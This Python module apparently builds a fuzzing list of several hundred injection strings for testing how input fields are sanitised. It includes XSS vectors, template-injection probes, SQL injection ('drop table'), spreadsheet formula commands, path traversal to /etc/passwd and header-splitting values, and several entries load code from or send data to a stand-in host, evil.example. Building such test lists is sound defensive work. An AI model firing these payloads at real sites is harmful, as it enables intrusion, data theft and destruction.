"""Four hundred ways to write something harmful into a field, each with a mark to find it by."""

from __future__ import annotations

MARK = "hostile"
SCRIPTS = [
    "<script>{m}</script>",
    "<ScRiPt src=//evil.example/{m}></ScRiPt>",
    "<img src=x onerror={m}>",
    "<svg/onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<body onload={m}>",
    "<iframe src=javascript:{m}>",
    "<a href=javascript:{m}>x</a>",
    "<form action=//evil.example/{m}><button>x",
    "<input autofocus onfocus={m}>",
    "<details open ontoggle={m}>",
    "<style>@import '//evil.example/{m}'</style>",
    "<link rel=stylesheet href=//evil.example/{m}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
    "<base href=//evil.example/{m}>",
    "<object data=//evil.example/{m}>",
    "<template><script>{m}</script></template>",
    "<math><mtext></mtext><mglyph onerror={m}>",
    "<div hx-get=//evil.example/{m} hx-trigger=load>",
    "<div hx-on:load={m}>",
    "<button hx-post=/logout hx-trigger=load>{m}",
    "<div data-hx-get=/x hx-vals='js:{m}'>",
    "<x style=animation-name:rotation onanimationstart={m}>",
    "<noscript><p title='</noscript><img src=x onerror={m}>'>",
    "<!--<img src='--><img src=x onerror={m}>'>",
    "{{{{ {m} }}}}",
    "{{% {m} %}}",
    "{{{{ ''.__class__.__mro__ }}}}{m}",
    "${{{m}}}",
    "#{{{m}}}",
    "%({m})s",
    "%({m})d %s %n",
    "{{0.__class__}}{m}",
    "javascript:{m}",
    "data:text/html,<script>{m}</script>",
    "//evil.example/{m}",
    "=cmd|'/c calc'!{m}",
    "@SUM({m})",
    "../../../etc/passwd{m}",
    "'; drop table invoice; -- {m}",
    "1 or 1=1 {m}",
    "\\' or ''='{m}",
    "%00{m}",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "&#60;script&#62;{m}",
]
AROUND = ["{0}", '">{0}', "'>{0}", "]]>{0}", "</textarea>{0}", "</title>{0}", "--!>{0}", '\\">{0}', '" {0} x="']
ODD = [
    "\x00{m}",
    "{m}\r\nSet-Cookie: sid=1",
    "{m}\u202egpj.exe",
    "{m}\u200b\u200d\ufeff",
    "\ud7ff{m}\ue000",
    "\u2028{m}\u2029",
    "{m}" + "A" * 5000,
    "\U0001f4a3{m}",
    "\uff1cscript\uff1e{m}",
    "9" * 400 + "{m}",
    "-1e309{m}",
    "\u0661\u0662{m}",
]


def payloads() -> list[str]:
    """Return all of them, each different."""
    plain = [each.format(m=MARK) for each in SCRIPTS]
    found = [around.format(each) for around in AROUND for each in plain]
    return [*found, *(each.format(m=MARK) for each in ODD)]
